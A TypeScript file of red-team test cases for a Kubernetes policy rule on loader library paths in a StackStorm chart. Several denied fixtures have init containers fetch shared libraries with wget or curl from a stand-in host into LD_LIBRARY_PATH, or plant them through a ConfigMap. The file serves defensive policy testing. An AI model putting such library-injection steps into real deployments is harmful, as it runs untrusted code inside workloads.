/**
 * The sixteenth round's loader doubts (loads16), in kept cases with their
 * look-alikes:
 *   - an emptyDir on LD_LIBRARY_PATH (or another loader's path) that an init
 *     container fills only by copying out of its image, the chart's own
 *     pattern for packs (base/st2api.yaml's st2-system-packs), holds that
 *     image's files: it passes ST2-SEC-030 when the image is pinned and its
 *     publisher listed (ST2-HRD-001, ST2-HRD-027: the policy's notion of a
 *     trusted image). Filled from the network (wget, curl), by an unpinned
 *     or unlisted image, or from a ConfigMap of libraries, it is denied as a
 *     volume's library is (ld.so(8): LD_LIBRARY_PATH is searched before the
 *     ld.so cache).
 */
import type { Patch, RedTeamCase, Wrapped } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, FIRST, SPEC } from './targets.js';

type Json = Record<string, unknown>;

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x3e, 0x00, 0xfe, 0xff]).toString('base64');
const LIMITS = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '100m', memory: '64Mi' } };
const DIGEST = 'sha256:7d4b1e0c2f5a8b3e6d9c0f1a4b7e2d5c8f0a3b6e9d1c4f7a0b3e6d9c2f5a8b1e';

/** A workload's first container with LD_LIBRARY_PATH on the `vlib` emptyDir, filled by this init container (mounted at /shared). */
const emptyDirLibs = (target: Json, init: Json, fresh: boolean, more: Json[] = []): Patch => ({
  target,
  ops: [
    { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'vlib', emptyDir: {} } },
    { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'vlib', mountPath: '/opt/vendor/lib', readOnly: true } },
    fresh ? { op: 'add', path: `${FIRST}/env`, value: [{ name: 'LD_LIBRARY_PATH', value: '/opt/vendor/lib' }] } : { op: 'add', path: `${FIRST}/env/-`, value: { name: 'LD_LIBRARY_PATH', value: '/opt/vendor/lib' } },
    { op: 'add', path: `${SPEC}/initContainers/-`, value: { name: 'vendor-libs', imagePullPolicy: 'IfNotPresent', resources: LIMITS, ...init, volumeMounts: [{ name: 'vlib', mountPath: '/shared' }, ...((init['volumeMounts'] as Json[] | undefined) ?? [])] } },
    ...more,
  ],
});
const copier = (image: string, script: string, extra: Json = {}): Json => ({ image, command: ['sh', '-ec', script], ...extra });
const body = (patches: Patch[], resources: Json[] = [], wraps: Wrapped = 'prod'): CaseBody => ({ wraps, resources, patches });

export function fresh16LoadsCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, b: CaseBody): void => {
    cases.push(bodyCase(`f16l-${id}`, cls, rule, b));
  };
  const OWN = `registry.corp.example/st2/vendor-libs:1.4.2@${DIGEST}`;

  // --- LD_LIBRARY_PATH on an emptyDir copied out of an image (ST2-SEC-030) -------------------------------
  add('safe-ldpath-copy-from-st2-image', 'delivery', undefined, body([emptyDirLibs(DEPLOY('st2api'), copier('stackstorm/st2actionrunner:3.8.1', 'mkdir -p /shared && cp -a /usr/lib/x86_64-linux-gnu/libz.so.1 /shared/'), true)]));
  add('safe-ldpath-copy-from-own-registry', 'delivery', undefined, body([emptyDirLibs(DEPLOY('st2actionrunner'), { image: OWN, command: ['/bin/cp', '-aR', '/opt/vendor/lib/.', '/shared/'] }, true)], [], 'staging'));
  add('ldpath-copy-from-unlisted-publisher', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2api'), copier('vendorlibs/openssl-fips:3.0.9', 'cp -a /usr/local/lib/. /shared/'), true)]));
  add('ldpath-copy-from-latest', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2auth'), copier('registry.corp.example/st2/vendor-libs:latest', 'cp -a /opt/vendor/lib/. /shared/'), true)]));
  add('ldpath-emptydir-wget', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2api'), { image: 'busybox:1.36.1', command: ['wget', '-q', '-O', '/shared/libz.so.1', 'https://mirror.r16l-libs.example.net/libz.so.1'] }, true)]));
  add('ldpath-copy-then-curl', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2api'), copier(OWN, 'cp -a /opt/vendor/lib/. /shared/ && curl -sfo /shared/libcrypto.so.3 https://mirror.r16l-libs.example.net/libcrypto.so.3'), true)]));
  add('ldpath-copy-from-configmap', 'delivery', 'ST2-SEC-030', body(
    [emptyDirLibs(DEPLOY('st2api'), copier(OWN, 'cp /src/libz.so.1 /shared/', { volumeMounts: [{ name: 'vsrc', mountPath: '/src' }] }), true, [{ op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'vsrc', configMap: { name: 'r16l-libs' } } }])],
    [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'r16l-libs' }, binaryData: { 'libz.so.1': ELF } }],
  ));
  return cases;
}
